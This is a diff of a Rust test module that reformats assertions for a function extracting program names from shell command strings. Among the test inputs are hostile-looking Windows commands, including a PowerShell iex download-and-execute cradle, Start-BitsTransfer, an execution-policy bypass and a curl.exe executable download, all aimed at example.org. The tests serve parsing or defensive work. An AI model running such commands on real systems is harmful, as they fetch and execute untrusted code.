@@ -66,11 +66,16 @@ mod tests {
             ["New-Object"]
         );
         assert_eq!(
-            programs("powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('https://example.org/a'))\""),
+            programs(
+                "powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('https://example.org/a'))\""
+            ),
             ["powershell", "iex", "New-Object"]
         );
         assert_eq!(programs("echo \"$(iwr https://example.org/a)\""), ["echo"]);
-        assert_eq!(programs("powershell -NoProfile Start-BitsTransfer -Source https://example.org/a"), ["powershell", "Start-BitsTransfer"]);
+        assert_eq!(
+            programs("powershell -NoProfile Start-BitsTransfer -Source https://example.org/a"),
+            ["powershell", "Start-BitsTransfer"]
+        );
         assert_eq!(programs("powershell -ExecutionPolicy Bypass -File x.ps1"), ["powershell"]);
         assert_eq!(
             programs("curl.exe -o C:\\x.exe https://example.org/x && choco install -y git"),
